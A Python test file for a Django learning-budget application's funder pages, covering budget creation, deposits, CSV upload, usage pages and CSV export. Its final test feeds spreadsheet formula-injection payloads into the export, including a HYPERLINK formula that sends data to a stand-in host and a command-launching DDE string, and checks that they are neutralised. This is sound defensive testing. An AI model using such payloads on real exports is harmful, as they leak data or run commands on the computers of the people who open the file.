# SPDX-License-Identifier: EUPL-1.2
"""The funder pages: make a budget with conditions, deposit, upload a file, see use, export."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation

from llo.accounts import services
from llo.accounts.models import Budget, DepositLine, Right
from llo.core.models import AuditEntry
from llo.core.money import Money
from llo.people.models import User
from tests.accounts.conftest import ACTOR, deposited, employ, make_budget, make_org, make_person

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.accounts.urls")]

YEAR = dt.date.today().year
TEMPLATES = Path(__file__).resolve().parents[2] / "src/llo/accounts/templates/accounts"


@pytest.fixture(autouse=True)
def english() -> Any:
    with translation.override("en"):
        yield


@pytest.fixture
def bakery() -> Any:
    return make_org("employer", name="Bakkerij de Korenaar", sector="bakery")


@pytest.fixture
def client(bakery: Any) -> Client:
    user = User.objects.create_user(username="werkgever:k", role="werkgever", organisation=bakery)
    c = Client(headers={"Accept-Language": "en"})
    c.force_login(user)
    return c


def form_budget(**extra: Any) -> dict[str, Any]:
    return {
        "name": "Leerbudget",
        "total": "7.200,00",
        "period_start": f"{YEAR}-01-01",
        "period_end": f"{YEAR}-12-31",
        "amount_per_person": "400",
        "right_validity_months": "24",
        "right_kind": "money",
        "portability": "cao",
        "allocation_policy": "per_person",
        "purposes": ["grow"],
        "idempotency_key": "form-1",
        **extra,
    }


def test_a_citizen_gets_403(person: Any) -> None:
    user = User.objects.create_user(username="burger:p", role="burger", person=person)
    c = Client()
    c.force_login(user)
    assert c.get("/financier/budgetten").status_code == 403


def test_anonymous_is_sent_to_login() -> None:
    response = Client().get("/financier/budgetten")
    assert response.status_code == 302
    assert "/inloggen" in response["Location"]


def test_make_a_budget_in_a_form(client: Client) -> None:
    assert client.get("/financier/budgetten/nieuw").status_code == 200
    response = client.post("/financier/budgetten/nieuw", form_budget())
    assert response.status_code == 302, response.content.decode()[:3000]
    budget = Budget.objects.get()
    assert budget.total_cents == 720_000
    assert budget.amount_per_person_cents == 40_000
    assert budget.conditions == {"purposes": ["grow"]}
    # pressing the button twice (same hidden key) makes one budget
    client.post("/financier/budgetten/nieuw", form_budget())
    assert Budget.objects.count() == 1
    page = client.get(response["Location"])
    assert page.status_code == 200
    text = page.content.decode()
    assert "€ 7.200,00" in text
    assert "Growing in your current job" in text


def test_errors_are_shown_beside_the_field(client: Client) -> None:
    response = client.post(
        "/financier/budgetten/nieuw",
        form_budget(
            total="12,345",
            period_end=f"{YEAR - 1}-01-01",
            co_payment_pct="120",
            idempotency_key="x",
        ),
    )
    assert response.status_code == 400
    html = response.content.decode()
    for field in ("total", "period_end", "co_payment_pct"):
        assert f'id="id_{field}-error"' in html
        assert re.search(rf'id="id_{field}"[^>]*aria-invalid="true"', html)
    assert Budget.objects.count() == 0


def test_deposit_to_chosen_employees_once(client: Client, bakery: Any) -> None:
    funder = services.ensure_funder(bakery)
    budget = make_budget(funder, 720_000, start=dt.date(YEAR, 1, 1), end=dt.date(YEAR, 12, 31))
    people = [make_person(name=f"Medewerker {i}") for i in range(3)]
    for p in people:
        employ(p, bakery)
    outsider = make_person(name="Buitenstaander")
    page = client.get(f"/financier/budgetten/{budget.pk}/storten")
    assert "Medewerker 0" in page.content.decode()
    assert "Buitenstaander" not in page.content.decode()
    data = {
        "persons": [str(p.pk) for p in people[:2]],
        "amount": "400,00",
        "idempotency_key": "dep-form",
    }
    response = client.post(f"/financier/budgetten/{budget.pk}/storten", data)
    assert response.status_code == 302
    client.post(f"/financier/budgetten/{budget.pk}/storten", data)  # a double click
    assert deposited() == 2
    refused = client.post(
        f"/financier/budgetten/{budget.pk}/storten",
        {"persons": [str(outsider.pk)], "amount": "400", "idempotency_key": "dep-2"},
    )
    assert refused.status_code == 400  # not one of the employees: not a valid choice
    too_much = client.post(
        f"/financier/budgetten/{budget.pk}/storten",
        {"persons": [str(people[2].pk)], "amount": "9.000", "idempotency_key": "dep-3"},
    )
    assert too_much.status_code == 400
    assert 'id="id_amount-error"' in too_much.content.decode()
    assert deposited() == 2


def test_upload_a_file_all_or_nothing_then_partial(client: Client, bakery: Any) -> None:
    budget = make_budget(
        services.ensure_funder(bakery),
        720_000,
        start=dt.date(YEAR, 1, 1),
        end=dt.date(YEAR, 12, 31),
    )
    a, b = make_person(employer=bakery), make_person(employer=bakery)
    text = f"bsn;amount\n{a.bsn};400,00\n123456789;400\n{b.bsn};0\n".encode()
    url = f"/financier/budgetten/{budget.pk}/bestand"
    response = client.post(
        url,
        {
            "file": SimpleUploadedFile("d.csv", text),
            "mode": "all-or-nothing",
            "idempotency_key": "f1",
        },
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "line 3: bsn" in html
    assert "line 4: amount" in html
    assert 'id="id_file-error"' in html
    assert deposited() == 0
    response = client.post(
        url, {"file": SimpleUploadedFile("d.csv", text), "mode": "partial", "idempotency_key": "f2"}
    )
    assert response.status_code == 200
    assert "line 3: bsn" in response.content.decode()
    assert deposited() == 1
    good = f"person_id,amount_cents\n{b.pk},5000\n".encode()
    response = client.post(
        url,
        {
            "file": SimpleUploadedFile("d.csv", good),
            "mode": "all-or-nothing",
            "idempotency_key": "f3",
        },
    )
    assert response.status_code == 302
    assert deposited() == 2


def test_use_page_and_export(client: Client, bakery: Any) -> None:
    budget = make_budget(
        services.ensure_funder(bakery),
        720_000,
        start=dt.date(YEAR, 1, 1),
        end=dt.date(YEAR, 12, 31),
    )
    p = make_person(name="Fatima", employer=bakery)
    right = services.deposit(
        actor=ACTOR,
        budget=budget,
        person=p,
        amount=Money(40_000),
        valid_until=dt.date.today() + dt.timedelta(days=30),
    )
    services.reserve(actor=ACTOR, right=right, amount=Money(10_000), reference="Helpende zorg")
    html = client.get(f"/financier/budgetten/{budget.pk}").content.decode()
    assert "Helpende zorg" in html  # reservations
    assert "€ 680.000,00" not in html
    assert "€ 6.800,00" in html  # not given out yet
    assert "Fatima" in html  # money that ends soon
    # The read of Fatima's data is logged with her as the subject (issue 14, item 5).
    assert AuditEntry.objects.filter(
        action="person.read", subject_id=str(p.pk), purpose__startswith="funder: page"
    ).exists()
    export = client.get(f"/financier/budgetten/{budget.pk}/export.csv")
    assert export["Content-Type"].startswith("text/csv")
    lines = b"".join(export.streaming_content).decode("utf-8-sig").splitlines()
    assert lines[0].startswith("right;person_id;name")
    assert lines[1].split(";")[7:10] == ["400,00", "300,00", "100,00"]


def test_use_page_and_export_show_deposits_nobody_has_read(client: Client, bakery: Any) -> None:
    """A bulk deposit writes lines; the page counts them as rights and the export gives every
    one its right's number."""
    budget = make_budget(
        services.ensure_funder(bakery),
        720_000,
        start=dt.date(YEAR, 1, 1),
        end=dt.date(YEAR, 12, 31),
    )
    people = [make_person(name=f"Werknemer {i}", employer=bakery) for i in range(3)]
    soon = dt.date.today() + dt.timedelta(days=30)
    services.bulk_deposit(
        actor=ACTOR,
        budget=budget,
        rows=[
            services.DepositRow(20_000, person_id=p.pk, valid_until=soon, line=i)
            for i, p in enumerate(people, start=1)
        ],
    )
    assert DepositLine.objects.count() == 3
    html = client.get(f"/financier/budgetten/{budget.pk}").content.decode()
    for p in people:
        assert html.count(p.display_name) == 2  # recent, and money that ends soon
    assert "€ 600,00" in html  # not used and ends within 90 days
    export = client.get(f"/financier/budgetten/{budget.pk}/export.csv")
    rows = b"".join(export.streaming_content).decode("utf-8-sig").splitlines()[1:]
    assert len(rows) == 3
    assert {r.split(";")[0] for r in rows} == {
        str(pk) for pk in Right.objects.values_list("pk", flat=True)
    }
    assert DepositLine.objects.count() == 0


def test_someone_elses_budget_is_404(client: Client) -> None:
    other = make_budget(services.ensure_funder(make_org("employer")))
    assert client.get(f"/financier/budgetten/{other.pk}").status_code == 404


def test_list_shows_budgets(client: Client, bakery: Any) -> None:
    make_budget(services.ensure_funder(bakery), 720_000, name="Leerbudget 2026")
    html = client.get("/financier/budgetten").content.decode()
    assert "Leerbudget 2026" in html
    assert "€ 7.200,00" in html


def test_templates_have_no_inline_style_or_script() -> None:
    for template in TEMPLATES.glob("*.html"):
        text = template.read_text()
        for forbidden in ("style=", "<style", "<script", "onclick"):
            assert forbidden not in text, template


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+31 6 1234 5678",
        "-2+3",
        "Jan;=1+1",
    ],
)
def test_export_neutralises_a_name_that_starts_like_a_formula(
    client: Client, bakery: Any, name: str
) -> None:
    """Issue 14, finding 4: the funder's export wrote a person's display name as it was; a
    spreadsheet read it as a formula. Now no cell starts one, and llo's reader (restore) gives
    the name back exactly."""
    import csv
    import io

    from llo.core import csvio

    budget = make_budget(
        services.ensure_funder(bakery),
        720_000,
        start=dt.date(YEAR, 1, 1),
        end=dt.date(YEAR, 12, 31),
    )
    employee = make_person(name=name, employer=bakery)
    services.deposit(actor=ACTOR, budget=budget, person=employee, amount=Money(40_000))
    export = client.get(f"/financier/budgetten/{budget.pk}/export.csv")
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    cell = row[header.index("name")]
    assert cell != name
    assert cell.startswith("'") or ";'" in cell
    assert csvio.restore(cell) == name
    assert row[header.index("deposited")] == "400,00"
